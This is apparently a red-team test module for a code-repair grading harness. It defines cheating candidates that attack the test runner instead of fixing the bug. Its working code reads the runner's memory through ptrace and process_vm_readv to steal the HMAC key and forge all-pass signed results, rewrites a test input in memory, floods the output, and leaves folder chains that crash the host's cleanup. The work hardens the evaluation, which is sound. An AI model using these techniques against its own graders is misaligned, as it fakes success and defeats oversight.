"""Round 12 of the repair red team, part b (issue 51: verdicts a candidate cannot reach, nothing untrusted on the
host): kinds of cheating candidate aimed AROUND the test process, built against main fbdab1c before any change.
Each spelling is a tuple of edits of the tally fixture (tests/repair_fixture.py) made on x_G of the W1 + W2 task,
as tests/redteam_round11b_cheats.py makes them; none fixes W1's bug (W2 is fixed, so that W1's tests are the
only ones left failing).

The common step is round 11b's: the candidate's changed tally/__init__.py writes a module of the package at run
time (no file of the diff: the static layer never reads it) and imports it; what that module does is start a
process with no audit hook (`python -I`, a shell) or act on the process itself. Round 11b's fix keeps the test
FILES from every process of the run (Landlock, the subreaper, digests by identity). What is left around the
process, aimed at here:

- **The runner's memory, from a process of the run.** confine.py keeps every process of the run from /proc (the
  runner's memory holds the channel's key) and says "Landlock denies ptrace out of a domain"; but a process the
  runner starts is in the SAME domain, the same uid, and this kernel has no Yama: `process_vm_readv` and
  `ptrace(PTRACE_ATTACH)` of its parent are allowed. A child (`python -I`, no hook) finds the HMAC's pads in the
  runner's heap (the candidate gives it addresses from `id()`), and the runner writes a forged, signed record
  stream (every test passed, the session's end 0) on the channel, then leaves with 0 (`os._exit`). Or the child
  writes the runner's memory (`process_vm_writev`, `PTRACE_POKEDATA`): the string constant W1's test passes to
  split_words ("a\\tb\\nc") becomes "a b c" in every code object holding it; the test file stays as written.
- **The harness's memory** (local: the same uid): outside the domain, refused (a control kind).
- **Files pytest or the tests read that the kernel does not keep**: only the test files holding the tests, the
  renamed copies and conftests are kept; a chain folder's other files may be written (confine.py), and new
  entries made there empty. Tried: a fifo at a name pytest or the tests may open, a new file at a chain folder.
- **Signals and process-control from a process the hook does not watch** (SIGSTOP of the harness for longer than
  its wait, a child that outlives the runner as a zombie holder).
- **Host-side reads after the run**: the evidence's output tail (a flood of output, NUL bytes, a forged report
  line printed by the runner on its stdout), names with odd bytes left in the tree, a deep folder chain left for
  the host's cleanup.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import NamedTuple

from tests.redteam_round9b_cheats import FMT_FUNCS, WORDS_FUNCS, _calls_first
from tests.test_repair_redteam import FIX_CASE, FIX_SORT, FMT, INIT, WORDS, Edit, prepend

CANARY = "rt12b_canary"

# -- the common step: a module written at run time (never read by the static layer), imported at tally's import;
# `_forge` (called first by every public function of words.py and fmt.py: after collection, when the tests run)
# calls its `restore`.
AT_IMPORT = '''
import os as _os

with open("tally/_rt12b.py", "w") as _helper:
    _helper.write(@HELPER@)
with open("tally/.rt12b_child.py", "w") as _script:
    _script.write(@CHILD@)

from tally import _rt12b  # noqa: E402


def _forge():
    _rt12b.restore()

'''


def module_edits(module: str, child: str = "") -> tuple[Edit, ...]:
    """tally/__init__.py writes `module` as tally/_rt12b.py and `child` as tally/.rt12b_child.py, and imports the
    module (its `restore` runs at the first call of words.py or fmt.py)."""
    code = AT_IMPORT.replace("@HELPER@", repr(module)).replace("@CHILD@", repr(child))
    return (prepend(INIT, code),
            prepend(WORDS, "from tally import _forge\n"), *_calls_first(WORDS, WORDS_FUNCS, "_forge"),
            prepend(FMT, "from tally import _forge\n"), *_calls_first(FMT, FMT_FUNCS, "_forge"),
            FIX_CASE, FIX_SORT)


# How the module starts the child (the environment's python, -I: no hook, no site of the tree); each waits
SPAWNS = {
    "python -I by os.posix_spawn": '''
def run_child(*args):
    pid = os.posix_spawn(sys.executable, [sys.executable, "-I", "tally/.rt12b_child.py", *args], dict(os.environ))
    os.waitpid(pid, 0)
''',
    "python -I by os.system": '''
def run_child(*args):
    os.system(" ".join([sys.executable, "-I", "tally/.rt12b_child.py", *args]))
''',
    "python -I by os.fork and os.execv": '''
def run_child(*args):
    pid = os.fork()
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-I", "tally/.rt12b_child.py", *args])
    os.waitpid(pid, 0)
''',
}

# -- the child's memory access: process_vm_readv / ptrace of its parent (the runner) ------------------------------
# Hints: addresses of objects the runner made early (modules imported by boot.py before the key was read), and
# of objects made now; the child reads pages around them (a page it cannot read is skipped, one at a time).
MEMORY = r'''
import ctypes
import os
import re
import sys

libc = ctypes.CDLL(None, use_errno=True)
PAGE = 4096
N = 256


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_writev.restype = ctypes.c_ssize_t
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 5, 16, 17


class VM:
    """process_vm_readv / process_vm_writev."""

    def __init__(self, pid):
        self.pid = pid
        self.buf = ctypes.create_string_buffer(PAGE * N)
        self.remote = (IOVec * N)()

    def read(self, addr, pages):
        for i in range(pages):
            self.remote[i].base, self.remote[i].len = addr + i * PAGE, PAGE
        local = IOVec(ctypes.cast(self.buf, ctypes.c_void_p), PAGE * pages)
        got = libc.process_vm_readv(self.pid, ctypes.byref(local), 1, self.remote, pages, 0)
        return ctypes.string_at(self.buf, got) if got > 0 else b""

    def write(self, addr, data):
        src = ctypes.create_string_buffer(data, len(data))
        local = IOVec(ctypes.cast(src, ctypes.c_void_p), len(data))
        remote = IOVec(addr, len(data))
        return libc.process_vm_writev(self.pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == len(data)

    def close(self):
        pass


class Trace:
    """ptrace(PTRACE_ATTACH), PEEKDATA / POKEDATA a word at a time."""

    def __init__(self, pid):
        self.pid = pid
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
            raise OSError(ctypes.get_errno(), "ptrace attach: " + os.strerror(ctypes.get_errno()))
        os.waitpid(pid, 0)

    def read(self, addr, pages):
        out = bytearray()
        for word in range(addr, addr + pages * PAGE, 8):
            ctypes.set_errno(0)
            value = libc.ptrace(PTRACE_PEEKDATA, self.pid, ctypes.c_void_p(word), None)
            if value == -1 and ctypes.get_errno():
                break
            out += (value & (2 ** 64 - 1)).to_bytes(8, "little")
        return bytes(out[:len(out) - len(out) % PAGE])

    def write(self, addr, data):
        start = addr - addr % 8
        end = addr + len(data)
        end += (-end) % 8
        old = bytearray(self.read_words(start, end))
        old[addr - start:addr - start + len(data)] = data
        for n in range(0, len(old), 8):
            value = int.from_bytes(old[n:n + 8], "little")
            if libc.ptrace(PTRACE_POKEDATA, self.pid, ctypes.c_void_p(start + n), ctypes.c_void_p(value)) != 0:
                return False
        return True

    def read_words(self, start, end):
        out = bytearray()
        for word in range(start, end, 8):
            value = libc.ptrace(PTRACE_PEEKDATA, self.pid, ctypes.c_void_p(word), None)
            out += (value & (2 ** 64 - 1)).to_bytes(8, "little")
        return bytes(out)

    def close(self):
        libc.ptrace(PTRACE_DETACH, self.pid, None, None)


def regions(mem, hints, span):
    """(address, bytes) of the readable runs of pages within span of each hint."""
    found, seen = [], set()
    for hint in hints:
        lo = max(PAGE, (hint - span) - (hint - span) % PAGE)
        hi = hint + span
        pos, start, run = lo, None, []
        while pos < hi:
            if pos in seen:
                pos += PAGE
                continue
            data = mem.read(pos, 1)  # a page first: most of the span is not mapped
            if data:
                data = mem.read(pos, N if isinstance(mem, VM) else 16) or data
                if start is None:
                    start = pos
                run.append(data)
                for p in range(pos, pos + len(data), PAGE):
                    seen.add(p)
                pos += len(data)
                if len(data) == PAGE * (N if isinstance(mem, VM) else 16):
                    continue
            if start is not None:
                found.append((start, b"".join(run)))
                start, run = None, []
            pos += PAGE
        if start is not None:
            found.append((start, b"".join(run)))
    return found


def attach(how, pid):
    return Trace(pid) if how == "ptrace" else VM(pid)
'''

# -- kind: the channel's key read from the runner's memory, a signed stream forged --------------------------------
KEY_CHILD = MEMORY + r'''
import hashlib
import hmac


def main():
    how, pid, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    hints = [int(h) for h in sys.argv[4].split(",")]
    first = int(sys.argv[5])
    try:
        mem = attach(how, pid)
    except OSError:  # refused: nothing to read
        found = []
    else:
        try:
            found = regions(mem, hints, 32 << 20 if how != "ptrace" else 4 << 20)
        finally:
            mem.close()
    to36 = bytes(b ^ 0x36 for b in range(256))
    keys = []
    for _, data in found:
        for run in re.finditer(rb"[0-9a-f]{64,}", data.translate(to36)):
            if run.end() - run.start() > 512:
                continue
            for at in range(run.start(), run.end() - 63):
                key = data[at:at + 64].translate(to36)
                if len(set(key)) < 10:  # a run of zero bytes reads as "6666..."
                    continue
                outer = bytes(b ^ 0x5C for b in key)
                if key not in keys and any(outer in d for _, d in found):
                    keys.append(key)
    nodes = []
    for name in sorted(os.listdir("tests")):
        if name.startswith("test_") and name.endswith(".py"):
            with open(os.path.join("tests", name)) as f:
                for line in f:
                    m = re.match(r"def (test\w*)\(", line)
                    if m:
                        nodes.append("tests/" + name + "::" + m.group(1))
    lines = []
    if len(keys) == 1:
        seq = first
        for node in nodes:
            for when in ("setup", "call", "teardown"):
                body = '{"seq": %d, "node": "%s", "outcome": "passed", "when": "%s"}' % (seq, node, when)
                seq += 1
                lines.append(hmac.new(keys[0], body.encode(), hashlib.sha256).hexdigest() + " " + body)
        body = '{"seq": %d, "audit": true, "end": 0, "failed": 0}' % seq
        lines.append(hmac.new(keys[0], body.encode(), hashlib.sha256).hexdigest() + " " + body)
    with open(out, "w") as f:
        f.write("\n".join(lines) + "\n" if lines else "")
    with open(out + ".why", "w") as f:
        f.write("regions %d, bytes %d, keys %d\n" % (len(found), sum(len(d) for _, d in found), len(keys)))


main()
'''
# in the runner: the child run, its lines written on the channel (the fifo among the descriptors), then exit 0
KEY_MODULE = '''
import os
import stat
import sys

SPAWN
HINTS = ",".join(str(id(o)) for o in (os, sys, stat, os.environ, os.path, object(), "x" * 100, b"y" * 64))


def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


def forge(first):
    run_child("HOW", str(os.getpid()), "tally/.rt12b_lines", HINTS, str(first))
    with open("tally/.rt12b_lines") as f:
        text = f.read()
    fd = _channel()
    if text.strip() and fd is not None:
        os.write(fd, text.encode())
        os._exit(0)


WHEN_IMPORT


def restore():
    WHEN_CALL
'''


def key_read(how: str, spawn: str, when: str) -> tuple[Edit, ...]:
    # at import (collection of the first test module): one record sent so far ({"collection": true})
    module = KEY_MODULE.replace("SPAWN", SPAWNS[spawn]).replace("HOW", how)
    module = module.replace("WHEN_IMPORT", "forge(1)" if when == "import" else "").replace(
        "WHEN_CALL", "forge(2)" if when == "call" else "pass")
    return module_edits(module, KEY_CHILD)


# -- kind: the runner's memory written by the child: W1's test input made "a b c" ---------------------------------
# Every str object whose data is "a\tb\nc" (W1's test's argument, a constant of its code object and of the renamed
# copy's) gets "a b c" (same length, ASCII): split_words("a b c") == ["a", "b", "c"]. Done at the first call
# (every test module is compiled by then).
WRITE_CHILD = MEMORY + r'''


def main():
    how, pid = sys.argv[1], int(sys.argv[2])
    hints = [int(h) for h in sys.argv[3].split(",")]
    done, found = 0, []
    try:
        mem = attach(how, pid)
    except OSError:  # refused: nothing to write
        mem = None
    if mem is not None:
        try:
            found = regions(mem, hints, 32 << 20 if how != "ptrace" else 4 << 20)
            for start, data in found:
                for m in re.finditer(re.escape(b"a\tb\nc\0"), data):
                    if mem.write(start + m.start(), b"a b c"):
                        done += 1
        finally:
            mem.close()
    with open("tally/.rt12b_written", "w") as f:
        f.write("regions %d, written %d\n" % (len(found), done))


main()
'''
WRITE_MODULE = '''
import os
import sys

SPAWN
DONE = []


def restore():
    if not DONE:
        DONE.append(1)
        hints = ",".join(str(id(o)) for o in (os, sys, os.environ, object(), "x" * 100, restore, DONE))
        run_child("HOW", str(os.getpid()), hints)
'''


def memory_written(how: str, spawn: str) -> tuple[Edit, ...]:
    return module_edits(WRITE_MODULE.replace("SPAWN", SPAWNS[spawn]).replace("HOW", how), WRITE_CHILD)


# -- control kind: the harness's memory (its parent's parent; local: the same uid, outside the domain) -------------
HARNESS_CHILD = MEMORY + r'''


def main():
    how, pid, hints = sys.argv[1], int(sys.argv[2]), [int(h) for h in sys.argv[3].split(",")]
    try:
        mem = attach(how, pid)
        try:
            found = regions(mem, hints, 32 << 20 if how != "ptrace" else 4 << 20)
        finally:
            mem.close()
        why = "attached, read %d bytes" % sum(len(d) for _, d in found)
    except OSError as e:
        why = "refused: %s" % e
    with open("tally/.rt12b_harness", "w") as f:
        f.write(why)


main()
'''
HARNESS_MODULE = '''
import os
import sys

SPAWN


def _harness():
    # the runner's parent: bash execs python, so the harness (run.py) is the runner's parent
    return os.getppid()


def restore():
    run_child("HOW", str(_harness()), ",".join(str(id(o)) for o in (os, sys, os.environ, object())))
    with open("tally/.rt12b_harness") as f:
        print("rt12b harness:", f.read())
'''


def harness_memory(how: str, spawn: str) -> tuple[Edit, ...]:
    return module_edits(HARNESS_MODULE.replace("SPAWN", SPAWNS[spawn]).replace("HOW", how), HARNESS_CHILD)


# -- kind: a folder chain deeper than the host's recursive removal, left for the host's cleanup ---------------------
# Python's shutil.rmtree (3.11, and TemporaryDirectory's cleanup) recurses once per level: a chain of 1,500 folders
# raises RecursionError in the grader (root on the host), which ignore_errors does not catch; the grade raises
# and the scratch (the tree the candidate touched) stays on the host. Each chain ends in a file named CANARY.
DEPTH = 1500
DEEP_CHILD = r'''
import os

fd = os.open("tally", os.O_RDONLY)
for _ in range(@DEPTH@):
    os.mkdir("d", dir_fd=fd)
    inner = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = inner
os.close(os.open("@CANARY@", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
'''.replace("@DEPTH@", str(DEPTH)).replace("@CANARY@", CANARY)
DEEP_MODULE = '''
import os
import sys

SPAWN
run_child()


def restore():
    pass
'''
DEEP_IN_PROCESS = '''
import os

_fd = os.open("tally", os.O_RDONLY)
for _ in range(DEPTH):
    os.mkdir("d", dir_fd=_fd)
    _inner = os.open("d", os.O_RDONLY, dir_fd=_fd)
    os.close(_fd)
    _fd = _inner
os.close(os.open("CANARY", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=_fd))
os.close(_fd)


def restore():
    pass
'''.replace("DEPTH", str(DEPTH)).replace("CANARY", CANARY)


def deep_in_the_diff(depth: int) -> tuple[Edit, ...]:
    """A file at the end of a chain of `depth` folders named d, shipped in the diff (2 bytes a level: git and the
    kernel take paths up to 4,095 bytes)."""
    def edit(root: Path) -> None:
        fd = os.open(root, os.O_RDONLY)
        for _ in range(depth):
            try:
                os.mkdir("d", dir_fd=fd)
            except FileExistsError:
                pass
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        with os.fdopen(os.open(CANARY, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
            f.write("x\n")
        os.close(fd)

    return (edit, FIX_CASE, FIX_SORT)


# -- kind: the key read from a forked copy of the runner (fork keeps the pads; the copy is the child's parent) ------
FORK_KEY_MODULE = '''
import os
import stat
import sys

SPAWN
HINTS = ",".join(str(id(o)) for o in (os, sys, stat, os.environ, os.path, object(), "x" * 100, b"y" * 64))


def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None


copy = os.fork()
if copy == 0:  # the copy: its child reads it (its parent), then it leaves
    run_child("HOW", str(os.getpid()), "tally/.rt12b_lines", HINTS, "1")
    os._exit(0)
os.waitpid(copy, 0)
with open("tally/.rt12b_lines") as _f:
    _text = _f.read()
_fd = _channel()
if _text.strip() and _fd is not None:
    os.write(_fd, _text.encode())
    os._exit(0)


def restore():
    pass
'''

# -- control kinds: what the host reads of a run's output and channel ----------------------------------------------
# a line shaped like the harness's report (a made-up token, every test passed) on every descriptor but the channel
REPORT_LINE_MODULE = '''
import json
import os
import stat

_line = ("0" * 32 + " " + json.dumps({"exit": 0, "timed_out": False, "records": [], "unsigned": 0, "seconds": 1.0,
                                      "output": "", "python": "3", "changed": []}) + "\\n").encode()
for _fd in range(1, 64):
    try:
        if not stat.S_ISFIFO(os.fstat(_fd).st_mode):
            os.write(_fd, _line * 3)
    except OSError:
        pass


def restore():
    pass
'''
# 20 MB of NUL, invalid UTF-8 and newlines on stdout and stderr, then no final record (a no-verdict's evidence
# carries the output's tail)
FLOOD_MODULE = '''
import os

_chunk = (b"\\0\\xff\\xfe\\x1b[2J" * 4096 + b"\\n") * 16
for _ in range(40):
    for _fd in (1, 2):
        try:
            os.write(_fd, _chunk)
        except OSError:
            pass
os._exit(3)


def restore():
    pass
'''
# a forked child floods the channel with lines that do not verify (4 MB), then the run goes on
CHANNEL_FLOOD_MODULE = '''
import os
import stat

for _fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
            break
    except OSError:
        continue
else:
    _fd = None
if _fd is not None:
    _pid = os.fork()
    if _pid == 0:
        try:
            os.write(_fd, (b"0" * 64 + b" {}\\n") * 60000)
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)


def restore():
    pass
'''


class Kind(NamedTuple):
    cls: str  # the class, (a) to (g)
    what: str  # one line
    spellings: dict[str, tuple[Edit, ...]]


KEY = ("a child with no hook (python -I) reads the runner's heap (same Landlock domain, same uid, no Yama), finds "
       "the HMAC's pads, and the runner writes a forged signed stream (every test passed, end 0) on the channel and "
       "leaves with 0")
WRITE = ("a child with no hook writes the runner's memory: W1's test's argument \"a\\tb\\nc\" becomes \"a b c\" in "
         "every code object; the test file stays as written")
KINDS: dict[str, Kind] = {
    "channel_key_read_from_the_runner_memory_by_process_vm_readv": Kind(
        "b", KEY + " (process_vm_readv)",
        {f"{spawn}, at import": key_read("process_vm_readv", spawn, "import")
         for spawn in ("python -I by os.posix_spawn", "python -I by os.system", "python -I by os.fork and os.execv")}),
    "channel_key_read_from_the_runner_memory_by_ptrace": Kind(
        "b", KEY + " (ptrace(PTRACE_ATTACH), PTRACE_PEEKDATA)",
        {f"{spawn}, at import": key_read("ptrace", spawn, "import")
         for spawn in ("python -I by os.posix_spawn", "python -I by os.system")}),
    "test_input_written_in_the_runner_memory_by_process_vm_writev": Kind(
        "b", WRITE + " (process_vm_writev)",
        {spawn: memory_written("process_vm_writev", spawn)
         for spawn in ("python -I by os.posix_spawn", "python -I by os.system")}),
    "test_input_written_in_the_runner_memory_by_ptrace": Kind(
        "b", WRITE + " (PTRACE_POKEDATA)",
        {spawn: memory_written("ptrace", spawn) for spawn in ("python -I by os.posix_spawn", "python -I by os.system")}),
    # a control: the harness (the runner's parent) holds the key too; it is outside the runner's domain (local) or
    # root's (docker)
    "harness_memory_read_by_a_child": Kind(
        "b", "a child with no hook attaches to the harness (ptrace, process_vm_readv) to read its memory",
        {f"{how}, {spawn}": harness_memory(how, spawn)
         for how, spawn in (("process_vm_readv", "python -I by os.posix_spawn"), ("ptrace", "python -I by os.system"))}),
    "channel_key_read_from_a_forked_copy_of_the_runner": Kind(
        "b", "the changed module forks the runner (the copy holds the pads); the copy's child (python -I) reads the "
             "copy's memory, and the runner writes the forged stream and leaves with 0",
        {f"{how}, {spawn}": module_edits(FORK_KEY_MODULE.replace("SPAWN", SPAWNS[spawn]).replace("HOW", how),
                                         KEY_CHILD)
         for how, spawn in (("process_vm_readv", "python -I by os.posix_spawn"), ("ptrace", "python -I by os.system"))}),
    "report_line_printed_on_the_runner_output": Kind(
        "b", "lines shaped like the harness's report (a made-up token, every test passed) on every descriptor of the "
             "runner but the channel",
        {"at tally's import, 3 lines a descriptor": module_edits(REPORT_LINE_MODULE)}),
    "output_flooded_with_odd_bytes": Kind(
        "g", "20 MB of NUL, invalid UTF-8 and terminal escapes on stdout and stderr, then os._exit(3): no final "
             "record, the no-verdict's evidence carries the output's tail",
        {"at tally's import": module_edits(FLOOD_MODULE)}),
    "channel_flooded_by_a_forked_child": Kind(
        "b", "a forked child writes 4 MB of lines that do not verify on the channel",
        {"at tally's import": module_edits(CHANNEL_FLOOD_MODULE)}),
    "deep_folder_chain_left_for_the_host": Kind(
        "g", f"a chain of {DEPTH} folders under the tree (made by a child, by the module, or shipped in the diff): "
             "the host's recursive removal of the scratch or the worktree raises RecursionError in the grader",
        {"python -I by os.posix_spawn: os.mkdir by descriptors": module_edits(
            DEEP_MODULE.replace("SPAWN", SPAWNS["python -I by os.posix_spawn"]), DEEP_CHILD),
         "the module at tally's import: os.mkdir by descriptors": module_edits(DEEP_IN_PROCESS),
         "shipped in the diff: d/d/.../rt12b_canary, 1,500 levels": deep_in_the_diff(1500)}),
}

__all__ = ["CANARY", "KINDS", "Kind"]
